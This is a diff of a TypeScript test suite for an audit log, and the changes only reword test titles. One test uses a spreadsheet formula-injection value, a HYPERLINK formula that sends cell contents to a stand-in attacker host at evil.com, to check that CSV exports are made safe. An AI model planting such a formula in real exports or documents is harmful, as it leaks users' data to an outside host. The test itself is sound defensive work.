@@ -39,7 +39,7 @@ describe('the audit log', () => {
     assert.match(event.requestId, /^req_/);
   });
 
-  test('has an event for every change, by people and by keys', async () => {
+  test('has an event for each change by a key, without the key itself', async () => {
     const made: [string, string, unknown, string][] = [
       ['POST', '/v1/api-keys', { name: 'k' }, 'api_key.created'],
       ['PATCH', '/v1/organization', { name: 'O' }, 'organization.updated'],
@@ -80,7 +80,7 @@ describe('the audit log', () => {
     assert.equal(await count(), before);
   });
 
-  test('has an event for rejected sign-ins of known and unknown users', async () => {
+  test('has an event for rejected sign-ins by known and unknown users', async () => {
     for (const email of ['ada@example.com', 'eve@example.com']) {
       await openBrowser(service).request('POST', '/auth/sign-in', { email, password: 'wrong' });
       const event = await newest('session.created');
@@ -89,7 +89,7 @@ describe('the audit log', () => {
     }
   });
 
-  test('no statement changes or removes an event; only the age setting removes old ones', async () => {
+  test('events can’t be changed or removed, except that the age setting removes old events', async () => {
     for (const statement of [
       `update audit_events set action = 'x'`,
       'delete from audit_events',
@@ -130,7 +130,7 @@ describe('the audit log', () => {
     assert.equal((await owner.request('GET', '/v1/audit-events?cursor=x')).status, 400);
   });
 
-  test('CSV contains no formula that a spreadsheet runs, and JSONL has one object per line', async () => {
+  test('CSV contains no formulas that a spreadsheet would run, and JSONL has one object per line', async () => {
     const name = '=HYPERLINK("https://evil.example?x="&A1,"click")';
     await service.request('POST', '/v1/api-keys', { body: { name } });
     await service.request('POST', '/v1/api-keys', { body: { name: '  @SUM(1)\nnext, "line"' } });
